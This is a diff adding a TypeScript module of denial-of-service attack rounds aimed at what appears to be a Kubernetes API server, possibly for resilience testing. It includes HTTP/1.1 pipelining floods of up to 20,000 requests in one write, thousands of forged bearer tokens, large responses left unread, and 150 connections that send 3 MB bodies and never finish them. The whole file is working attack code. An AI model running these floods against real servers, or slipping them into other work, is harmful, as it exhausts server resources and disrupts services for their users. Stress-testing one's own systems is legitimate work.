@@ -1,0 +1,123 @@
+import { once } from 'node:events';
+import type { TLSSocket } from 'node:tls';
+import type { Attack } from './attack';
+import { BIG, WIDE } from './stored';
+import type { Victim } from './victim';
+
+const UNFINISHED = 150;
+const UNFINISHED_BYTES = 3 * 1024 * 1024;
+const UNREAD_CONNECTIONS = 4;
+const UNREAD_TIMES = 2_500;
+
+/** As long as one is, though nobody has signed it. */
+const MADE_UP_TOKEN = `Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6ImEifQ.${Buffer.from(
+  JSON.stringify({ iss: 'https://kubernetes.default.svc', sub: 'a'.repeat(150) }),
+).toString('base64url')}.${'a'.repeat(86)}`;
+
+/** Many requests of one connection at once, answers that nobody reads, and bodies that never end. */
+export const PIPELINING: readonly Attack[] = [
+  {
+    name: 'F1: 20,000 × GET /livez in one go, without credentials',
+    round: async (victim, signal) => pipeline(victim, { times: 20_000, text: head('/livez') }, signal),
+  },
+  {
+    name: 'F1: 5,000 × GET /readyz?verbose in one go, without credentials',
+    round: async (victim, signal) =>
+      pipeline(victim, { times: 5_000, text: head('/readyz?verbose') }, signal),
+  },
+  {
+    name: 'F1: 5,000 made-up tokens in one go',
+    round: async (victim, signal) => {
+      const text = head('/api/v1/pods', [`Authorization: ${MADE_UP_TOKEN}`]);
+      return pipeline(victim, { times: 5_000, text }, signal);
+    },
+  },
+  {
+    name: 'F1: 20 × GET of 60,000 keys as YAML in one go',
+    round: async (victim, signal) => {
+      const text = head(WIDE, [`Authorization: ${victim.authorization}`, 'Accept: application/yaml']);
+      return pipeline(victim, { times: 20, text }, signal);
+    },
+  },
+  {
+    name: 'F1: 2,500 × GET of 1 MB on each of 4 connections, never read',
+    round: async (victim, signal) => {
+      const text = head(BIG, [`Authorization: ${victim.authorization}`]);
+      const sockets = Array.from({ length: UNREAD_CONNECTIONS }, () => victim.connect().pause());
+      for (const socket of sockets) socket.write(text.repeat(UNREAD_TIMES));
+      await untilAll(sockets, signal);
+    },
+  },
+  {
+    name: 'F1: 150 bodies of 3 MB that do not end',
+    round: async (victim, signal) => {
+      const text = head(
+        '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews',
+        [
+          `Authorization: ${victim.authorization}`,
+          'Content-Type: application/json',
+          `Content-Length: ${String(UNFINISHED_BYTES)}`,
+        ],
+        'POST',
+      );
+      const body = Buffer.alloc(UNFINISHED_BYTES - 1, ' ');
+      const sockets = Array.from({ length: UNFINISHED }, () => victim.connect());
+      for (const socket of sockets) {
+        countAnswers(socket, victim);
+        socket.write(text);
+        socket.write(body);
+      }
+      await untilAll(sockets, signal);
+    },
+  },
+];
+
+function head(path: string, lines: readonly string[] = [], method = 'GET'): string {
+  return [`${method} ${path} HTTP/1.1`, 'Host: x', ...lines, '', ''].join('\r\n');
+}
+
+/** Sends so many requests in one write, and resolves when all are answered or the connection is closed. */
+async function pipeline(
+  victim: Victim,
+  { times, text }: { readonly times: number; readonly text: string },
+  signal: AbortSignal,
+): Promise<void> {
+  const socket = victim.connect();
+  let left = times;
+  const all = new Promise<void>((resolve) => {
+    countAnswers(socket, victim, () => {
+      left -= 1;
+      if (left === 0) resolve();
+    });
+  });
+  socket.write(text.repeat(times));
+  await Promise.race([all, untilAll([socket], signal)]);
+  socket.destroy();
+}
+
+const STATUS_LINE = /HTTP\/1\.1 (\d{3}) /g;
+const STATUS_LINE_CHARS = 'HTTP/1.1 200 '.length;
+
+function countAnswers(socket: TLSSocket, victim: Victim, counted: () => void = () => undefined): void {
+  let rest = '';
+  socket.setEncoding('latin1');
+  socket.on('data', (text: string) => {
+    const all = rest + text;
+    for (const [, code] of all.matchAll(STATUS_LINE)) {
+      victim.count(Number(code));
+      counted();
+    }
+    // One that has not come as a whole is found with what follows it.
+    rest = all.slice(Math.max(all.lastIndexOf('HTTP/1.1 ') + 1, all.length - STATUS_LINE_CHARS + 1));
+  });
+}
+
+/** Resolves when all are closed, by whomever, or the signal has aborted, and closes them. */
+async function untilAll(sockets: readonly TLSSocket[], signal: AbortSignal): Promise<void> {
+  const over = Promise.all(
+    sockets.map(async (socket) => (socket.destroyed ? undefined : once(socket, 'close'))),
+  );
+  const aborted = signal.aborted ? undefined : once(signal, 'abort');
+  await Promise.race([over, aborted]);
+  for (const socket of sockets) socket.destroy();
+}
